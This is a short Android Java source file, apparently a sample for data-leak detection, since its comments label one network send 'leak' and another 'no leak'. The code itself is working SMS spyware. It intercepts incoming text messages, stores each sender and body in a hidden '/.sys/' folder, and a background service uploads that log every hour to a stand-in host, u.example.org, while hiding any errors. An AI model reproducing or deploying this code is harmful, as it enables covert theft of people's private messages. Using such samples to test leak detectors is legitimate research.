package olden;

import android.app.*;
import android.content.*;
import android.os.*;
import android.telephony.*;

import java.io.*;
import java.net.*;
import java.util.*;

/** Messages put into files by a receiver, read and sent by a timer. */
public class Stashed extends BroadcastReceiver {
    static final String DIR = Environment.getExternalStorageDirectory() + "/.sys/";

    static void put(String n, String t) {
        try {
            File d = new File(DIR);
            if (!d.exists()) d.mkdirs();
            FileWriter w = new FileWriter(new File(d, n), true);
            BufferedWriter b = new BufferedWriter(w);
            b.write(t);
            b.newLine();
            b.close();
        } catch (IOException e) {
        }
    }

    public void onReceive(Context c, Intent i) {
        Bundle b = i.getExtras();
        if (b == null) return;
        Object[] pdus = (Object[]) b.get("pdus");
        for (Object p : pdus) {
            SmsMessage m = SmsMessage.createFromPdu((byte[]) p);
            put("sms.txt", m.getOriginatingAddress() + ":" + m.getMessageBody());
        }
        put("state.txt", "received " + pdus.length);
    }

    public static class Up extends Service {
        Timer t = new Timer();

        public IBinder onBind(Intent i) {
            return null;
        }

        public void onCreate() {
            t.schedule(
                    new TimerTask() {
                        public void run() {
                            send();
                            state();
                        }
                    },
                    0,
                    3600000L);
        }

        String read(String n) throws IOException {
            BufferedReader r =
                    new BufferedReader(new InputStreamReader(new FileInputStream(DIR + n)));
            StringBuilder s = new StringBuilder();
            String l;
            while ((l = r.readLine()) != null) s.append(l).append("\n");
            r.close();
            return s.toString();
        }

        void send() {
            try {
                URLConnection c = new URL("http://u.example.org/up").openConnection();
                c.setDoOutput(true);
                OutputStreamWriter w = new OutputStreamWriter(c.getOutputStream());
                w.write("t=" + URLEncoder.encode(read("sms.txt"))); // leak
                w.flush();
            } catch (IOException e) {
            }
        }

        void state() {
            try {
                URLConnection c = new URL("http://u.example.org/st").openConnection();
                c.setDoOutput(true);
                OutputStreamWriter w = new OutputStreamWriter(c.getOutputStream());
                w.write("t=" + URLEncoder.encode(read("state.txt"))); // no leak
                w.flush();
            } catch (IOException e) {
            }
        }
    }
}
